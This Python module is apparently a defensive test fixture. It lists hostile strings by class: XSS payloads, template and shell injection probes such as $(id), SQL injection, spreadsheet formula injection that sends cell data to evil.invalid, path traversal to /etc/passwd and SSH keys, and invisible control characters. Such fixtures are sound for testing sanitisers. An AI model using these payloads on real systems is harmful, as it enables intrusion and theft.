"""Texts that have broken programs of this kind, by class; what they do, a test can see.

What runs sets ``window.hacked`` or opens a dialog, what loads asks ``evil.invalid``.
"""

from itertools import product
from types import MappingProxyType
from urllib.parse import quote

__all__ = ["HOSTILE", "STRINGS", "UNSEEN"]

_RUN = "window.hacked=1;alert(1)"
_LOAD = "//evil.invalid/x"

_HANDLERS = [
    f"<{tag} {event}={quoted}{_RUN}{quoted}>{end}"
    for (tag, event, end), quoted in product(
        (
            ("img src=x", "onerror", ""),
            ("svg", "onload", "</svg>"),
            ("body", "onload", ""),
            ("details open", "ontoggle", "<summary>x</summary></details>"),
            ("input autofocus", "onfocus", ""),
            ("video src=x", "onerror", "</video>"),
            ("audio src=x", "onerror", "</audio>"),
            ("iframe src=x", "onload", "</iframe>"),
            ("marquee", "onstart", "</marquee>"),
            ("div style=animation-name:x", "onanimationstart", "</div>"),
            ("a href=#", "onmouseover", "x</a>"),
            ("select autofocus", "onfocus", "</select>"),
            ("button popovertarget=x", "onclick", "x</button>"),
            ("math", "onclick", "</math>"),
            ("object data=x", "onerror", "</object>"),
        ),
        ("", '"', "'"),
    )
]
_SCRIPTS = [
    before + script + after
    for (before, after), script in product(
        (
            ("", ""),
            ("</script>", ""),
            ("</title>", ""),
            ("</textarea>", ""),
            ("</style>", ""),
            ("-->", "<!--"),
            ("]]>", "<![CDATA["),
            ('">', ""),
            ("'>", ""),
            ("</p></div></main>", ""),
            ("<!--", "-->"),
            ("<template>", "</template>"),
            ("<noscript><p title='</noscript>", "'>"),
            ("<svg>", "</svg>"),
            ("<math><mtext><table><mglyph><style>", "</style>"),
        ),
        (
            f"<script>{_RUN}</script>",
            f"<script src={_LOAD}.js></script>",
            f"<ScRiPt >{_RUN}</sCrIpT >",
            f"<script type=module>{_RUN}</script>",
        ),
    )
]
_LOADS = [
    template.replace("URL", address)
    for template, address in product(
        (
            "<img src='URL'>",
            "<img srcset='URL 2x'>",
            "<link rel=stylesheet href='URL'>",
            "<link rel=prefetch href='URL'>",
            "<style>@import 'URL';</style>",
            "<div style=\"background:url('URL')\">",
            "<iframe src='URL'></iframe>",
            "<embed src='URL'>",
            "<object data='URL'></object>",
            "<form action='URL'><button>",
            "<base href='URL'>",
            "<meta http-equiv=refresh content='0;url=URL'>",
            "<svg><image href='URL'/></svg>",
            "<svg><use href='URL#a'/></svg>",
            "<video poster='URL'>",
            "<a ping='URL' href='URL'>x</a>",
        ),
        (f"https:{_LOAD}", _LOAD, f"https:{_LOAD}.svg#a"),
    )
]
_ADDRESSES = [
    shape.replace("URL", address)
    for shape, address in product(
        ("URL", "<a href='URL'>x</a>", "[x](URL)"),
        (
            f"javascript:{_RUN}",
            f"JaVaScRiPt:{_RUN}",
            f"java&#115;cript:{_RUN}",
            f"&#x6A;avascript:{_RUN}",
            f"javascript://x/%0A{_RUN}",
            f"data:text/html,<script>{_RUN}</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            f"vbscript:{_RUN}",
            "file:///etc/passwd",
            f"blob:{_RUN}",
            f"https:{_LOAD}?q='\"><script>{_RUN}</script>",
            "\\\\evil.invalid\\share\\x",
        ),
    )
]
_TEMPLATES = [
    "{{7*7}}",
    "{% for a in (1,2) %}{{a}}{% endfor %}",
    "{% raw %}{% endraw %}{# #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config }} {{ self }} {{ this.get_name() }}",
    "{%- include '/etc/passwd' -%}",
    "{% endmacro %}{% macro script(this, kwargs) %}alert(1){% endmacro %}",
    "${7*7} #{7*7} <%= 7*7 %> @(7*7)",
    "`${alert(1)}`",
    "{0.__class__} {} {a} %s %(a)s %n %x",
    "$HOME $(id) `id` ; id | id && id",
    "__import__('os').system('id')",
]
_CODE = [
    f"';{_RUN}//",
    f'";{_RUN}//',
    f"\\';{_RUN}//",
    f'\\";{_RUN}//',
    f"`;{_RUN}//",
    f"</script >{_RUN}",
    f"*/{_RUN}/*",
    f"}}}});{_RUN};({{{{",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "<!-- <script> -->",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "NaN",
    "undefined",
    "null",
    "true",
    "[object Object]",
    '{"__proto__": {"hacked": 1}}',
]
_MARKUP = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt; &#60;b&#62; &#x3c;b&#x3e; &lt",
    "<b>bold</b> <i>i</i> <u>u</u>",
    "<h1>heading</h1><hr><br>",
    "<div class='dmz-panel' id='map_div'>",
    "<form id=map_div><input name=attributes>",
    "</div></div></div></body></html>",
    "<plaintext>",
    "<xmp><listing>",
    "<a id=dmzUi><a id=dmzUi name=x>",
    "# heading",
    "**bold** _it_ ~~no~~ `code`",
    "![x](https://evil.invalid/x.png)",
    "[x]: https://evil.invalid/x",
    "| a | b |",
    ":red[five] :smile: :material/home: $x^2$ $$x$$",
    "<https://evil.invalid/>",
    "1. one",
    "> quote",
    "--- === ***",
    "\\begin{document}\\input{/etc/passwd}",
    "\\write18{id} \\href{https://evil.invalid}{x} %&#$_{}~^",
    "$\\alpha$ \\frac{1}{0}",
]
_STYLES = [
    "</style><style>*{display:none}",
    "}*{display:none}",
    "expression(alert(1))",
    "url(https://evil.invalid/x)",
    "@import url(//evil.invalid/x);",
    "color:red;background:url(//evil.invalid/x)",
    "\\7d *\\7b display:none",
    ";position:fixed;inset:0;z-index:99999",
]
_TABLES = [
    "=1+1",
    '=HYPERLINK("https://evil.invalid/?"&A1;"x")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "'=1+1",
    "''=1",
    '=WEBSERVICE("https://evil.invalid")',
    '=IMPORTXML("https://evil.invalid";"//a")',
    'a,"b",c',
    '"',
    '""',
    "a;b;c",
    "1e999 -0 0x10 1_000",
    "_x000D_ _x0041_",
    "NULL",
    "N/A",
    "#REF!",
    "2017-11-13",
    "1/2",
    "00123",
]
_QUERIES = [
    "'; DROP TABLE incident; --",
    "' OR '1'='1",
    '" OR ""="',
    "%' UNION SELECT 1 --",
    "% _ \\ [a-z]",
    "a* OR b NEAR c",
    'title_en:"x" AND *',
    "-NOT (x",
    "^ $ .* (?=x)",
    "(a+)+$",
]
_PATHS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\con\\con",
    "~root/.ssh/id_rsa",
    "a/b/../../c",
    "CON",
    "%2e%2e%2f%2e%2e%2f",
    "a?b#c&d=e+f%20g",
    ".htaccess",
    quote("<script>alert(1)</script>"),
]
_WORLD = [
    "그는 “안전했다”고 말했다",
    "판문점 공동경비구역",
    "한글 <b>굵게</b>",
    "Ünïcödé ß ﬁ Å",
    "\U0001f1f0\U0001f1f7 \U0001f468 \U00020bb7",
    "Z̤͔a̸l̵g̷o̶ x",
    "ＦＵＬＬ＜ｓｃｒｉｐｔ＞",
    "‹script› ≺ ≻ ＜ ＞ ﹤ ﹥",
    "עברית עם english",
    "العربية",
    "ʼalert(1)ʼ ＂onload＝",
    "x" * 3000,
    "<" * 500,
    "&" * 500,
    "한" * 1000,
    "<b>" * 200,
    "a " * 600 + "z",
]

STRINGS = MappingProxyType(
    {
        "handlers": _HANDLERS,
        "scripts": _SCRIPTS,
        "loads": _LOADS,
        "addresses": _ADDRESSES,
        "templates": _TEMPLATES,
        "code": _CODE,
        "markup": _MARKUP,
        "styles": _STYLES,
        "tables": _TABLES,
        "queries": _QUERIES,
        "paths": _PATHS,
        "world": _WORLD,
    }
)
"""By class; none of them has a character that nobody sees."""

HOSTILE = tuple(dict.fromkeys(text for texts in STRINGS.values() for text in texts))

UNSEEN = (
    "a\x00b",
    "\x1b[2J\x1b]0;title\x07",
    "\x08\x08\x08",
    "a\x0bb\x0cc",
    "\x7f\x85\x9b",
    "\u202egnp.exe",
    "\u2066isolated\u2069 \u202dleft\u202c",
    "a\u200bb\u200dc\ufeffd",
    "a\u2028b\u2029c",
    "\ufffe\uffff \ufdd0",
    "\ue000 private",
    "e\u0301 in parts",
    "\u1112\u1161\u11ab in parts",
    "\u3164\u115f\u1160 filler",
    "\u00a0 \u3000 spaces",
    "\ufffd lost",
    "\U000e0041\U000e0042 tags",
    "one\ttwo\rthree\nfour\r\nfive",
    "  spaces  ",
)
"""With characters that nobody sees: no door lets them in as they are, or shows them so."""
